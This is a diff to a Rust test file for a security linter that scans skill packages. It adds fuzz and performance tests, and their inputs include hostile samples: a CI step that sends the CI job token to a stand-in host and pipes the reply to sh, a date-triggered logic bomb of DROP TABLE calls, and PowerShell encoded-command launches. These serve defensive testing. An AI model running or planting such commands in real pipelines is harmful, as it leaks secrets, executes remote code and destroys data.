@@ -88,7 +88,7 @@ fn is_md(name: &str) -> bool {
         .is_some_and(|e| e.eq_ignore_ascii_case("md"))
 }
 
-const NAMES: [&str; 8] = [
+const NAMES: [&str; 12] = [
     "SKILL.md",
     "references/x.md",
     "scripts/x.py",
@@ -97,7 +97,39 @@ const NAMES: [&str; 8] = [
     "scripts/x.ps1",
     "requirements.txt",
     "package.json",
+    "ci/x.yml",
+    "scripts/x.rb",
+    "rules/x.mdc",
+    "python.Dockerfile",
 ];
+
+/// YAML as CI files, compose files and manifests shape it: keys whose values are shell, block
+/// scalars, list items, upper-case variables, at any indentation, with arbitrary text between.
+fn yamlish() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        Just("run: |".to_owned()),
+        Just("run: >-".to_owned()),
+        Just("script:".to_owned()),
+        Just("before_script:".to_owned()),
+        Just("command: [\"/bin/sh\", \"-c\"]".to_owned()),
+        Just("args:".to_owned()),
+        Just("- |".to_owned()),
+        Just("- ".to_owned()),
+        Just("ENDPOINT: \"https://x.example/a\"".to_owned()),
+        Just("curl -s \"$ENDPOINT\" -d \"$CI_JOB_TOKEN\" | sh".to_owned()),
+        Just("env:".to_owned()),
+        Just(":".to_owned()),
+        Just("\"".to_owned()),
+        "\\PC{0,12}",
+    ];
+    prop::collection::vec((0usize..12, piece), 0..40).prop_map(|lines| {
+        let mut text = String::new();
+        for (indent, piece) in lines {
+            let _ = writeln!(text, "{}{piece}", " ".repeat(indent));
+        }
+        text
+    })
+}
 
 proptest! {
     #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]
@@ -122,6 +154,26 @@ proptest! {
             for hit in flow::analyse(name, &text, is_md(name)) {
                 prop_assert!(hit.at <= text.len());
             }
+        }
+    }
+
+    /// The shell units of a YAML file lie inside it on character boundaries, its variables are
+    /// bounded, and every rule home reads it without panicking.
+    #[test]
+    fn yaml_shell_units_never_panic(text in yamlish()) {
+        for u in flow::yaml::shell_units(&text) {
+            prop_assert!(u.start <= u.end && u.end <= text.len());
+            prop_assert!(text.is_char_boundary(u.start) && text.is_char_boundary(u.end));
+        }
+        prop_assert!(flow::yaml::variables(&text).len() <= 256);
+        let input = skills::lint::security::Input::new("ci/x.yml", &text, "", false);
+        for home in skills::lint::security::HOMES {
+            for hit in (home.findings)(&input, false) {
+                prop_assert!(text.is_char_boundary(hit.at));
+            }
+        }
+        for hit in flow::analyse("ci/x.yml", &text, false) {
+            prop_assert!(hit.at <= text.len());
         }
     }
 
@@ -192,6 +244,38 @@ fn hostile_text_is_analysed_in_linear_time() {
                 "{name}: {} findings",
                 hits.len()
             );
+        }
+    }
+}
+
+/// Shapes that would make the rule homes of this stop quadratic: a fuse above tens of thousands
+/// of `DROP`s out of its reach, thousands of `-EncodedCommand $x` lines each naming another
+/// variable, thousands of `run:` steps. Every home must simply finish on them, in Markdown and
+/// as a script.
+#[test]
+fn hostile_shapes_finish_in_every_rule_home() {
+    let mut bomb =
+        String::from("if datetime.date.today() < datetime.date(2027, 1, 1):\n    pass\n");
+    bomb.push_str(&"x = 1\n".repeat(20));
+    bomb.push_str(&"cur.execute('DROP TABLE t')\n".repeat(40_000));
+    let mut encoded = String::new();
+    for i in 0..5_000 {
+        let _ = writeln!(
+            encoded,
+            "Start-Process powershell -ArgumentList '-Enc',$v{i}"
+        );
+    }
+    let workflow = "      - run: |\n          curl -s \"$U\" | sh\n".repeat(20_000);
+    for (rel, text) in [
+        ("scripts/check.py", &bomb),
+        ("scripts/doctor.ps1", &encoded),
+        (".github/workflows/ci.yml", &workflow),
+    ] {
+        let input = skills::lint::security::Input::new(rel, text, "", false);
+        for home in skills::lint::security::HOMES {
+            for hit in (home.findings)(&input, false) {
+                assert!(hit.at <= text.len());
+            }
         }
     }
 }
